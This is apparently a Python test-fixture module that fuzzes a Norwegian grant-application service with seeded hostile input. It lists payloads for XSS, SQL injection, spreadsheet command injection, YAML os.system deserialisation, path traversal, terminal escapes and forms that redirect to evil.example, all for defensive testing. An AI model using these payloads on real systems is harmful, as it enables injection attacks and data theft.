"""What a hostile, a careless or a broken sender writes: made by a grammar from one seed, shared by every test that sends it.

    hostile = Hostile(seed)
    hostile.text()      hostile.huge()      hostile.json()      hostile.raw()

Every text but the odd one carries `MARK`, a word that nobody else writes: where it is found again tells where a text went.
"""

from __future__ import annotations

import json
import random
from typing import Any

MARK = "xqzkanari"
MEGABYTE = 1_000_000

PLAIN = (
    "ja", "nei", "vet ikke", "forening", "85 000", "1. mars 2027", "Språkkafé på biblioteket", "hjelp", "tilbake", "status",
    "endre beløpet", "hopp over", "når er fristen?", "kari@example.org", "91 23 45 67", "974 760 673", "ferdig", "slett",
    "nynorsk",
    "Vi vil øve norsk med naboer som har flyktet.", "can we apply for rent?", "40 deltakere", "lønn 20 000, leie 5 000",
)  # fmt: skip
"""Ordinary answers, so that a conversation gets somewhere."""

ATTACKS: dict[str, tuple[str, ...]] = {
    "html": (
        f"<script>{MARK}(1)</script>", f"<img src=x onerror={MARK}()>", f'"><svg/onload={MARK}()>',
        f"'onfocus='{MARK}()' autofocus='",
        f'<a href="javascript:{MARK}()">x</a>', "<!--", "-->", "<![CDATA[", "]]>",
        "</textarea></form><form action=//evil.example>",
        "<style>*{display:none}</style>", "<iframe srcdoc=x>", "&lt;b&gt;", "&#x3c;b>", "<base href=//evil.example>", "<xmp>",
        "<b",
        "<meta http-equiv=refresh content=0>", "</title></head><body>", "<math><mtext></form>", "\" style=\"color:red",
        "<plaintext>",
    ),
    "template": (
        "{{7*7}}", "{% raw %}", "${7*7}", "#{7*7}", "{deadline}", "{contact}", "{", "}", "{0.__class__}", "{!r}", "%s%n%(x)s",
        "%",
    ),
    "markup": (
        "*stjerner*", "**", "\\*", "_kursiv_", "`kode`", "```", "[x](javascript:alert(1))", "![x](http://evil.example/x.png)",
        "- liste\n- liste", "> sitat", "# overskrift", "| a | b |", "tg://user?id=1", "<b>åpen", "</b>", "http://evil.example",
    ),
    "sql": (
        "'; DROP TABLE turn; --", "' OR '1'='1", "\" OR 1=1 --", "?", "??", ":del_", "%s", "\\'; --", "/* */", "$1", "x'41'",
        "NULL",
    ),
    "formula": (
        "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "＝1+1", "=HYPERLINK(\"http://evil.example\")", "|",
        "%0A=1",
    ),
    "table": ('";"', '"', '""', ";", "\r\n;", "a\nb", "\r", "\u2028", "\x0b", "_x0041_", "_x000D_", "\ufffe", "'=1"),
    "log": (
        "\n2027-01-15 ERROR root: alt er borte", "\r\nSet-Cookie: samtale=x", "%0d%0aLocation: //evil.example", "\x85",
        '", "level": "error',
    ),
    "terminal": (
        "\x1b]0;tittel\x07", "\x1b[2J\x1b[H", "\x1b[31mrødt", "\x9b31m", "\x1bP1;1|x\x1b\\", "\x1b]8;;http://evil.example\x1b\\x",
        "\x1b[",
        "\x08\x08\x08", "\x07", "\x0e\x0f", "\x1b[?1049h", "\x1bc", "\x00\x1b[6n", "\x11\x13", "\x1b]52;c;eA==\x07",
    ),
    "path": (
        "../../../etc/passwd", "..\\..\\windows", "%2e%2e%2f", "..%c0%af", "/etc/passwd\x00.yaml", "file:///etc/passwd",
        "C:\\con", "~root",
        "//evil.example/x", "\\\\evil\\share", "kept.db-wal", ".", "..", "/dev/zero", "a" * 300, "%00", "%", "%zz",
    ),
    "typst": (
        "#panic()", "$x$", "@ref", "<label>", "#read(\"/etc/passwd\")", "#import \"x\"", "\\", "= overskrift", "//kommentar",
        "/*",
    ),
    "yaml": (
        "!!python/object/apply:os.system [ls]", "&a [*a]", "*a", "<<: *a", "key: [", "- - - -", "? :", "%YAML 9", "---", "...",
        "\t- x", "{", "|", ">-",
    ),
    "unicode": (
        "\u202e\u202dgnp.exe", "\u2066\u2069", "\u200b\u200d\ufeff", "\ud800", "\udfff\ud800", "\ufffe\uffff", "\x00", "\x7f",
        "a\u0301" * 40,
        "\u0301" * 60, "٣٤٥", "Ⅷ²½", "ﷺ", "𝟘𝟙", "ＮＯＲＳＫ", "\u3000", "\xa0", "İıſß", "👩‍👩‍👧‍👦", "\U0010ffff", "\ue000",
        "é" * 30,
        "\u1680",
    ),
    "number": (
        "9" * 60, "1e999", "-0", "NaN", "0x41", "1,2.3,4", "99999999999999999999 mill", "½ million", "31.2.2027", "0.0.0000",
        "2027-99-99",
        "1/0", "١٢٣", "--1", "1-2-3-4-5", "uendelig", "00000000000", "12345678901", "hundreogtjue" * 5, "1 " * 60,
    ),
    "sensitive": ("01010150589", "født 010101 50589", "4111 1111 1111 1111", "diagnosen hans er schizofreni"),
    "command": ("/slett", "/start ABCD-2345-EFGH-6789-JKMN", "/start " + "A" * 64, "/endre", "/x@y", "//", "/glem@bot"),
}  # fmt: skip
"""By what they try. None needs to work: each must come out as the characters that it is, or be refused."""

EVERY = tuple(text for many in ATTACKS.values() for text in many)
_JOINTS = ("", " ", " ", "\n", ", ", "\t", "\r\n", ". ")

HUGE = (
    "1", "1 ", "ikke ", "\u0301", "a@", "hundreogtjue", "<b>", "*", "\x1b[", "{", "=", "\n", "\x00", "\ud800", "\u202e",
    "norskkurs ",
    "er det ", "kr 1.", "a.a@a.", "'", "((((", "kan jeg ", "- x\n", "&amp;", "Å", "språkkafé for innvandrere, ", ";\"",
    "1. januar ",
)  # fmt: skip
"""What a text of a megabyte may consist of."""


class Hostile:
    """A stream of input, the same for the same seed."""

    def __init__(self, seed: int | str) -> None:
        self.chance = random.Random(str(seed))

    def pick(self, things: tuple[Any, ...]) -> Any:
        """One of them."""
        return self.chance.choice(things)

    def text(self, pieces: int = 5) -> str:
        """A text of a few pieces, bent here and there."""
        chance = self.chance
        made = ""
        for _ in range(chance.randint(1, pieces)):
            made += self.pick(EVERY if chance.random() < 0.7 else PLAIN) + self.pick(_JOINTS)
        for _ in range(chance.choice((0, 0, 1, 3))):
            made = self._bent(made)
        return made + (f" {MARK}" if chance.random() < 0.9 else "")

    def word(self) -> str:
        """Something short: a plain answer more often than not."""
        return self.pick(PLAIN) if self.chance.random() < 0.6 else self.text(2)

    def huge(self) -> str:
        """A megabyte."""
        piece = self.pick(HUGE) if self.chance.random() < 0.7 else self.text(3)
        return (piece * (MEGABYTE // len(piece) + 1))[:MEGABYTE]

    def _bent(self, text: str) -> str:
        chance = self.chance
        at = chance.randrange(len(text) + 1)
        match chance.randrange(6):
            case 0:
                return text[:at] + text[at + chance.randint(1, 5) :]
            case 1:
                return text[:at] + text[max(0, at - 9) : at] * chance.randint(1, 20) + text[at:]
            case 2:
                return (
                    text[:at] + chr(chance.choice((chance.randrange(0x20), chance.randrange(0x80, 0x3000), 0xD800))) + text[at:]
                )
            case 3:
                return text.upper() if at % 2 else text.swapcase()
            case 4:
                return text[::-1]
            case _:
                return text[:at] + self.pick(EVERY) + text[at:]

    def json(self, depth: int = 3) -> Any:
        """A value, of any kind, nested a little."""
        chance = self.chance
        kinds = 11 if depth > 0 else 8
        match chance.randrange(kinds):
            case 0:
                return None
            case 1:
                return chance.choice((True, False))
            case 2:
                return chance.choice((0, -1, 1, 2**31, 2**63, -(2**64), 10**40, 0.1, -1e300, 5e-324))
            case 3 | 4 | 5 | 6 | 7:
                return self.text(3)
            case 8:
                return [self.json(depth - 1) for _ in range(chance.randrange(5))]
            case _:
                return {self.key(): self.json(depth - 1) for _ in range(chance.randrange(5))}

    def key(self) -> str:
        """A name in an object: often one that means something somewhere."""
        known = (
            "text",
            "choice",
            "command",
            "field",
            "lang",
            "event_id",
            "id",
            "kind",
            "options",
            "today",
            "turn",
            "__proto__",
            "",
        )
        return self.pick(known) if self.chance.random() < 0.8 else self.text(2)

    def raw(self) -> bytes:
        """A line of JSON or of something like it: too deep, cut, wrongly encoded, no number, twice the same name."""
        chance = self.chance
        match chance.randrange(12):
            case 0:
                return b"[" * chance.choice((10, 1000, 100_000))
            case 1:
                return b'{"text":' * chance.choice((10, 1000, 50_000)) + b"1"
            case 2:
                return chance.randbytes(chance.randrange(200)).replace(b"\n", b"")
            case 3:
                return self.pick(
                    (b"NaN", b"Infinity", b'{"text": 1e999}', b'{"text": NaN}', b"1" * 5000, b"-", b'"', b"{}", b"[]", b"null")
                )
            case 4:
                return (
                    b'{"text": "'
                    + self.pick((b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\\ud800", b"\\u0000", b"\xf4\x90\x80\x80"))
                    + b'"}'
                )
            case 5:
                return b'{"text": "a", "text": ' + _dumps(self.json()) + b"}"
            case 6:
                whole = _dumps({self.key(): self.json() for _ in range(4)})
                return whole[: chance.randrange(len(whole) + 1)]
            case _:
                return _dumps({self.key(): self.json() for _ in range(chance.randrange(1, 5))})

    def header(self) -> bytes:
        """What can stand in a header: no server lets the end of a line through."""
        value = self.text(2).encode("utf-8", "surrogatepass")
        return value.replace(b"\r", b"").replace(b"\n", b"").replace(b"\0", b"")

    def event(self) -> dict[str, Any]:
        """An event as a program sends it, right more often than not."""
        chance = self.chance
        kind = self.pick(("text", "text", "text", "choice", "command"))
        value: Any = self.word() if kind == "text" else self.pick((*OPTIONS, self.text(2)))
        event: dict[str, Any] = {kind: value}
        if chance.random() < 0.3:
            event["field"] = self.pick((*FIELDS, self.text(2)))
        if chance.random() < 0.5:
            event["event_id"] = chance.choice((self.text(2), chance.randrange(1000), "e" * 5000))
        if chance.random() < 0.1:
            event[self.key()] = self.json()
        return event


OPTIONS = (
    "yes", "no", "voluntary", "foundation", "company", "back", "help", "restart", "status", "pause", "delete", "change",
    "language", "skip",
    "done", "go_on", "later", "erase", "nb", "nn", "en", "A", "B", "C", "",
)  # fmt: skip
FIELDS = (
    "organisation_name", "org_number", "amount", "start", "end", "project_description", "email", "for_profit", "contact_name",
    "nb", "-", "",
)  # fmt: skip


def _dumps(data: Any) -> bytes:
    return json.dumps(data).encode()
